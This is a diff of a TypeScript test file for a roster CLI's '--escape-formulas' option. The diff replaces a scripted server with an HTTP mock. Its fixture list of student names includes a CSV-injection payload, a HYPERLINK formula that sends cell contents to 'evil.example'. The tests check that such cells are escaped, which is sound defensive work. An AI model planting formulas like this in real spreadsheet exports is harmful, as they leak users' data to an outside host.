@@ -1,10 +1,9 @@
-// --escape-formulas on a OneRoster read: the built CLI against a server on 127.0.0.1 whose records start
-// with what a spreadsheet runs (OWASP CSV injection). Without the option the CSV is exact.
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+// --escape-formulas on a OneRoster read: a run in this process against a server (an HttpMock) whose records
+// start with what a spreadsheet runs (OWASP CSV injection). Without the option the CSV is exact.
+import { describe, expect, it } from 'vitest';
 import { formulaSafe, formulaUnescaped } from '../../src/output/csv.js';
-import { runCli } from '../helpers/cli.js';
-import { tempDir } from '../helpers/context.js';
-import { type ScriptedServer, startScriptedServer } from '../helpers/scripted-server.js';
+import { json, tokenReply, useHttpMock } from '../helpers/http-mock.js';
+import { rosterInProcess } from '../helpers/main.js';
 
 const NAMES = [
   '=HYPERLINK("http://evil.example/?"&A1,"x")',
@@ -17,23 +16,26 @@ const NAMES = [
   'a=b',
 ];
 
-let server: ScriptedServer;
-beforeAll(async () => {
-  server = await startScriptedServer((request) =>
-    request.path.endsWith('/token')
-      ? { body: { access_token: 'tok-1', token_type: 'bearer', expires_in: 3600 } }
-      : { body: { users: NAMES.map((givenName, i) => ({ sourcedId: `s-${i}`, givenName })) } },
-  );
-});
-afterAll(() => server.close());
+const mock = useHttpMock();
+/** The token, then the students whose names are the formulas. */
+function server(): void {
+  mock.http
+    .register({ method: 'POST', path: '/v1/ims/oneroster/v1p1/token' }, tokenReply('tok-1'))
+    .register(
+      { method: 'GET', path: '/v1/ims/oneroster/v1p1/students' },
+      json({ users: NAMES.map((givenName, i) => ({ sourcedId: `s-${i}`, givenName })) }),
+    );
+}
 
 const roster = (args: string[]) =>
-  runCli(['roster', 'students', '--columns', 'sourcedId,givenName', ...args], tempDir(), {
-    env: { ROSTER_BASE_URL: server.baseUrl, ROSTER_CLIENT_ID: 'c', ROSTER_CLIENT_SECRET: 'secret-1' },
+  rosterInProcess(['roster', 'students', '--columns', 'sourcedId,givenName', ...args], {
+    env: { ROSTER_BASE_URL: 'https://api.test/v1', ROSTER_CLIENT_ID: 'c', ROSTER_CLIENT_SECRET: 'secret-1' },
+    transport: mock.http,
   });
 
 describe('--escape-formulas', () => {
   it("puts a ' before cells starting with = + - @, a tab or a CR; leaves the others", async () => {
+    server();
     const result = await roster(['--csv', '--escape-formulas']);
     expect(result.code).toBe(0);
     expect(result.stdout).toBe(
@@ -53,6 +55,7 @@ describe('--escape-formulas', () => {
   });
 
   it('without it, the CSV holds the exact values', async () => {
+    server();
     const result = await roster(['--csv']);
     expect(result.code).toBe(0);
     expect(result.stdout.split('\n').slice(1, 5)).toEqual([
@@ -64,11 +67,10 @@ describe('--escape-formulas', () => {
   });
 
   it('goes with --csv only: a usage error, nothing sent', async () => {
-    const before = server.requests.length;
     const result = await roster(['--json', '--escape-formulas']);
     expect(result.code).toBe(2);
     expect(result.stderr).toBe('Error: --escape-formulas goes with --csv.\n');
-    expect(server.requests.length).toBe(before);
+    expect(mock.http.requests).toEqual([]);
   });
 
   it('formulaSafe', () => {
